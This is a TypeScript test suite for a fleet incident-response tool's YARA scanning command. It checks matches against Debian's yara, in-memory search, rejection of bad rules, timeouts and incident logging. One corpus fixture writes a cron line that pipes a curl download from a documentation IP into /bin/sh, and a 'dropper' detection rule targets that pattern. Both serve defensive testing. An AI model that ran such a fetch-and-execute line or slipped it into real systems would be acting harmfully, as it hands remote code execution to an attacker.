import { type ChildProcess, execFile, spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, mkdirSync, openSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { promisify } from "node:util";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { signAction } from "../../common/mod.js";
import { CommandStatus } from "../../proto/api.js";
import { collectResults, fileAction } from "../helpers/actions.js";
import { AGENT_EXE, dragnet, ndjson, requireBuild, twoPeople } from "../helpers/cli.js";
import { eventually, startFleet, type TestFleet, tempDir } from "../helpers/fleet.js";

// `dragnet yara` against the agent executable (the YARA-X engine is a
// single-executable asset inside it, written to its state directory and
// checked before it is loaded): on a corpus written here, the (file, rule)
// pairs equal Debian's `yara -r -N` (4.2); memory: a needle assembled at run
// time in one process is found there and in no other; and what is refused.

const run = promisify(execFile);
let fleet: TestFleet;
let home: string;
let work: string;
let agent: ChildProcess;
let agentId: string;
const children: ChildProcess[] = [];
const cli = (args: string[]) => dragnet(["--home", home, ...args]);

const RULES = String.raw`
rule gpl : license text {
  meta:
    author = "dragnet tests"
    severity = 3
  strings:
    $a = "GNU General Public License"
    $b = "Free Software Foundation" nocase
  condition:
    $a and $b
}

rule mz_jump {
  strings:
    $h = { 4D 5A [2-4] 00 ?? 50 45 }
  condition:
    $h at 0
}

rule gzip_header : archive {
  strings:
    $g = { 1F 8B 08 }
  condition:
    $g at 0 and filesize < 64KB
}

rule many_urls {
  strings:
    $u = /https?:\/\/[a-z0-9.-]+\.example\.(com|org)/
  condition:
    #u > 2
}

private rule has_shell {
  strings:
    $s = "/bin/sh"
  condition:
    $s
}

rule dropper : malware {
  strings:
    $c = "curl -s" wide ascii
  condition:
    has_shell and $c
}

rule many_words {
  strings:
    $w = "word"
  condition:
    #w > 40
}

rule small_secret {
  strings:
    $k = /SU[A-Z2-7]{56}/
  condition:
    filesize < 4096 and $k
}
`;

/** A global rule in a second file: nothing over 1 MiB matches anything. */
const GLOBAL = `
global rule not_huge {
  condition:
    filesize < 1048576
}
`;

beforeAll(async () => {
  requireBuild();
  fleet = await startFleet({ agents: 0 });
  home = fleet.consoleHome();
  work = tempDir("dragnet-yara-");
  const stateDir = join(work, "state");
  mkdirSync(stateDir, { recursive: true });
  const flags = await fleet.agentExeFlags(stateDir);
  agent = spawn(
    AGENT_EXE,
    [
      "run",
      "--hostname",
      "yara-host",
      "--keyring",
      fleet.keyringPath,
      "--heartbeat-interval",
      "500",
      ...flags,
    ],
    { stdio: ["ignore", "ignore", openSync(join(work, "agent.log"), "a")], env: {} },
  );
  agentId = await eventually(async () => (await fleet.api.listAgents())[0]?.id, 20_000);
  writeFileSync(join(work, "rules.yar"), RULES);
  writeFileSync(join(work, "global.yar"), GLOBAL);
}, 60_000);

afterAll(async () => {
  for (const c of [...children, agent]) {
    if (c && c.exitCode === null) {
      const exited = new Promise((resolve) => c.once("exit", resolve));
      c.kill("SIGTERM");
      await exited;
    }
  }
  await fleet?.stop();
});

describe("dragnet yara", () => {
  it("finds exactly the (file, rule) pairs yara -r -N finds, over text, binary, gzip, symlinks and files over the cap", async () => {
    const corpus = join(work, "corpus");
    mkdirSync(join(corpus, "deep", "er"), { recursive: true });
    const copying =
      "This program is free software under the GNU General Public License, as published by the FREE SOFTWARE FOUNDATION.\n";
    writeFileSync(join(corpus, "COPYING"), copying);
    writeFileSync(join(corpus, "half-gpl.txt"), "GNU General Public License, and nothing else\n");
    writeFileSync(
      join(corpus, "pe.bin"),
      Buffer.concat([
        Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x41, 0x50, 0x45]),
        Buffer.alloc(200, 7),
      ]),
    );
    writeFileSync(
      join(corpus, "not-pe.bin"),
      Buffer.concat([Buffer.alloc(4), Buffer.from("MZ\x90\x00\x03\x00APE")]),
    );
    writeFileSync(
      join(corpus, "logs.gz"),
      gzipSync("GNU General Public License / Free Software Foundation\n"),
    );
    const urls = (n: number) =>
      Array.from({ length: n }, (_, i) => `see https://host${i}.example.com/x`).join("\n");
    writeFileSync(join(corpus, "deep", "links.html"), urls(3));
    writeFileSync(join(corpus, "deep", "two-links.html"), urls(2));
    writeFileSync(
      join(corpus, "deep", "er", "cron.sh"),
      "#!/bin/sh\n* * * * * curl -s http://203.0.113.7/x | /bin/sh\n",
    );
    writeFileSync(join(corpus, "deep", "er", "curl-only.txt"), "curl -s http://example.org\n");
    writeFileSync(
      join(corpus, "deep", "er", "wide.bin"),
      Buffer.concat([Buffer.from("/bin/sh\0"), Buffer.from("curl -s", "utf16le")]),
    );
    writeFileSync(join(corpus, "id_ed25519"), `-- NATS USER NKEY SEED --\nSU${"A".repeat(56)}\n`);
    // Over the global rule's 1 MiB: GPL text inside, no match.
    writeFileSync(
      join(corpus, "huge-gpl.txt"),
      Buffer.concat([
        Buffer.from("GNU General Public License Free Software Foundation\n"),
        Buffer.alloc(1_100_000, 0x20),
      ]),
    );
    // Over the agent's file cap (given below): counted, not scanned.
    writeFileSync(
      join(corpus, "over-cap.txt"),
      Buffer.concat([
        Buffer.from("GNU General Public License Free Software Foundation\n"),
        Buffer.alloc(600_000, 0x20),
      ]),
    );
    // Counted past what is reported: 50 matches, two strings shown.
    writeFileSync(join(corpus, "words.txt"), "word ".repeat(50));
    writeFileSync(join(corpus, "fewer-words.txt"), "word ".repeat(40));
    symlinkSync(join(corpus, "COPYING"), join(corpus, "link-to-copying"));
    symlinkSync(join(corpus, "deep"), join(corpus, "link-to-deep"));
    writeFileSync(join(corpus, "no-read.txt"), "GNU General Public License / Free Software Foundation\n");
    chmodSync(join(corpus, "no-read.txt"), 0o000);

    const r = await cli([
      "--json",
      "yara",
      "-t",
      "all",
      "--rules",
      join(work, "rules.yar"),
      "--rules",
      join(work, "global.yar"),
      "--path",
      corpus,
      "--max-file-bytes",
      "500000",
      "--max-strings",
      "2",
    ]);
    expect([r.code, r.stderr]).toEqual([0, expect.stringContaining("1 found")]);
    const ours = ndjson(r.stdout).map((row) => `${row.rule} ${row.path}`);
    const theirs = (
      await run("yara", ["-r", "-N", join(work, "rules.yar"), join(work, "global.yar"), corpus], {
        encoding: "utf8",
      })
    ).stdout
      .split("\n")
      .filter(Boolean)
      // The cap is Dragnet's own: the file over it is reported as not scanned, not as matched.
      .filter((line) => !line.endsWith("/over-cap.txt"));
    expect(ours.sort()).toEqual(theirs.sort());
    // The global rule is a match of its own on every file under 1 MiB; the huge one matches nothing.
    expect(ours.filter((p) => p.startsWith("not_huge ")).length).toBe(14);
    expect(ours.some((p) => p.endsWith("/huge-gpl.txt") || p.includes("link-to-"))).toBe(false);
    // What this corpus is for: each rule kind hits where it should, and only there.
    expect(ours.filter((p) => !p.startsWith("not_huge ")).sort()).toEqual(
      [
        `gpl ${join(corpus, "COPYING")}`,
        `gpl ${join(corpus, "no-read.txt")}`,
        `mz_jump ${join(corpus, "pe.bin")}`,
        `gzip_header ${join(corpus, "logs.gz")}`,
        `many_urls ${join(corpus, "deep", "links.html")}`,
        `dropper ${join(corpus, "deep", "er", "cron.sh")}`,
        `dropper ${join(corpus, "deep", "er", "wide.bin")}`,
        `small_secret ${join(corpus, "id_ed25519")}`,
        `many_words ${join(corpus, "words.txt")}`,
      ].sort(),
    );
    const gpl = ndjson(r.stdout).find((row) => row.rule === "gpl" && String(row.path).endsWith("COPYING"))!;
    expect(gpl).toMatchObject({
      tags: ["license", "text"],
      meta: { author: "dragnet tests", severity: "3" },
    });
    expect(
      (gpl.strings as { identifier: string; offset: number }[]).map((s) => [s.identifier, s.offset]),
    ).toEqual([
      ["$a", copying.indexOf("GNU General Public License")],
      ["$b", copying.indexOf("FREE SOFTWARE FOUNDATION")],
    ]);
    const words = ndjson(r.stdout).find((row) => row.rule === "many_words")!;
    expect([(words.strings as unknown[]).length, words.stringsOmitted]).toEqual([2, 48]);
    // A secret is never sent back, only where it is (here a NATS seed).
    const key = ndjson(r.stdout).find((row) => row.rule === "small_secret")!;
    expect(key.strings).toEqual([
      { identifier: "$k", offset: 26, length: 58, data: "[redacted: NATS seed]" },
    ]);
    // The engine was written into the state directory, checked, and loaded from there.
    const engine = (await run("sh", ["-c", `ls -l ${join(work, "state", "native")}`], { encoding: "utf8" }))
      .stdout;
    expect(engine).toMatch(/-r-x------ .* yara-x-[0-9a-f]{16}\.node/);
  }, 120_000);

  it("finds a needle assembled at run time in one process's memory, in no other, with two signatures", async () => {
    const marker = `yara-needle-holder-${process.pid}`;
    const random = Math.random().toString(36).slice(2, 10).toUpperCase();
    // The needle exists whole only in the holder's heap: its parts travel apart.
    const holder = spawn(process.execPath, [
      "-e",
      "globalThis.n = Buffer.from(['DRAG', 'NET-', 'NEE', 'DLE-', process.argv[1]].join('')); setInterval(() => {}, 1000)",
      random,
      marker,
    ]);
    const control = spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)", random, marker]);
    children.push(holder, control);
    await new Promise((r) => setTimeout(r, 300));
    const rules = join(work, "needle.yar");
    writeFileSync(rules, `rule needle { strings: $n = "DRAGNET-NEEDLE-${random}" condition: $n }\n`);
    const r = await twoPeople(home, ["yara", "-t", "all", "--rules", rules, "--cmdline", marker]);
    expect(r.code).toBe(0);
    expect(r.rows.map((row) => [row.pid, row.rule])).toEqual([[holder.pid, "needle"]]);
    expect((r.rows[0]!.strings as { data: string }[])[0]!.data).toBe(`DRAGNET-NEEDLE-${random}`);
  }, 60_000);

  it("refuses rules that do not compile, unsupported imports and rules over the limit, naming what is wrong", async () => {
    writeFileSync(
      join(work, "bad.yar"),
      'rule ok { condition: true }\n\nrule broken { strings: $a = "x" condition: $b }\n',
    );
    const bad = await cli(["yara", "-t", "all", "--rules", join(work, "bad.yar"), "--path", work]);
    expect([bad.code, bad.stderr]).toEqual([2, expect.stringMatching(/bad\.yar line 3: .*\$b/)]);
    writeFileSync(join(work, "import.yar"), 'import "magic"\nrule c { condition: true }\n');
    const imported = await cli(["yara", "-t", "all", "--rules", join(work, "import.yar"), "--path", work]);
    expect([imported.code, imported.stderr]).toEqual([
      2,
      expect.stringMatching(/import\.yar line 1: unknown module .magic./),
    ]);
    writeFileSync(
      join(work, "big.yar"),
      `rule big { strings: $a = "${"x".repeat(300_000)}" condition: $a }\n`,
    );
    const big = await cli(["yara", "-t", "all", "--rules", join(work, "big.yar"), "--path", work]);
    expect([big.code, big.stderr]).toEqual([2, expect.stringContaining("over the limit of 262144")]);
    // A console that skips its own check: the agent compiles the rules itself and refuses them.
    const body = fileAction({ paths: [work] });
    body.operations = [
      {
        module: {
          $case: "yara",
          value: {
            rules: [{ name: "sneaky.yar", text: "rule s { condition: $nothing }" }],
            paths: [work],
            name: "",
            processes: undefined,
          },
        },
      },
    ];
    await fleet.api.submitAction(signAction(body, fleet.alice));
    const { results } = await collectResults(fleet.api, body.id);
    expect(results.map((x) => [CommandStatus[x.status], x.problem?.message])).toEqual([
      ["COMMAND_STATUS_FAILED", expect.stringMatching(/yara: sneaky\.yar line 1: .*\$nothing/)],
    ]);
  });

  it("stops a scan that runs past its timeout, says so, and answers the next command", async () => {
    const slow = join(work, "slow.yar");
    // A regex with a costly prefix, over every file under /usr: seconds of work.
    writeFileSync(slow, "rule slow { strings: $r = /[a-z]{2,}[0-9]{2,}[a-z]{2,}Q/ condition: $r }\n");
    const r = await cli(["yara", "-t", "all", "--rules", slow, "--path", "/usr", "--timeout", "1s"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/yara-host .*timeout/i);
    const next = await cli([
      "--json",
      "yara",
      "-t",
      "all",
      "--rules",
      join(work, "rules.yar"),
      "--path",
      join(work, "corpus", "COPYING"),
    ]);
    expect([next.code, ndjson(next.stdout).map((row) => row.rule)]).toEqual([0, ["gpl"]]);
  }, 60_000);

  it("records in the incident's notebook the rules by name and SHA-256, not their text", async () => {
    const incident = (
      await cli(["incident", "open", "--title", "webshell hunt", "--severity", "high"])
    ).stdout.trim();
    const text = readFileSync(join(work, "rules.yar"), "utf8");
    const r = await cli([
      "yara",
      "-t",
      "all",
      "--rules",
      join(work, "rules.yar"),
      "--path",
      join(work, "corpus", "COPYING"),
      "--incident",
      incident,
      "-q",
    ]);
    expect(r.code).toBe(0);
    const pages = ndjson((await cli(["--json", "incident", "show", incident])).stdout);
    const submitted = pages.find((p) => p.kind === "action submitted")!;
    const content = JSON.parse(String(submitted.content));
    const expected = createHash("sha256")
      .update(`9:rules.yar${Buffer.byteLength(text)}:`)
      .update(text)
      .digest("hex");
    expect(content.operations[0].value).toMatchObject({
      rules: [{ name: "rules.yar", bytes: Buffer.byteLength(text), sha256: expected }],
      rulesSha256: expected,
      paths: [join(work, "corpus", "COPYING")],
    });
    expect(String(submitted.content)).not.toContain("GNU General Public License");
  });

  it("pkg through the agent executable: the dpkg packages dpkg-query lists, filtered by a version comparison", async () => {
    const dpkgVersion = (
      await run("dpkg-query", ["-W", "-f", "${Version}", "dpkg"], { encoding: "utf8" })
    ).stdout.trim();
    const r = await cli(["--json", "pkg", "-t", "all", "--name", "^(dpkg|libc6)$"]);
    expect(r.code).toBe(0);
    const theirs = (
      await run("dpkg-query", ["-W", "-f", "${Package}\\t${Version}\\n", "dpkg", "libc6"], {
        encoding: "utf8",
      })
    ).stdout
      .split("\n")
      .filter(Boolean);
    expect(
      ndjson(r.stdout)
        .map((row) => `${row.name}\t${row.version}`)
        .sort(),
    ).toEqual(theirs.sort());
    const older = await cli([
      "--json",
      "pkg",
      "-t",
      "all",
      "--name",
      "^dpkg$",
      "--version",
      `<${dpkgVersion}`,
    ]);
    expect([older.code, older.stdout]).toEqual([1, ""]);
  });
});
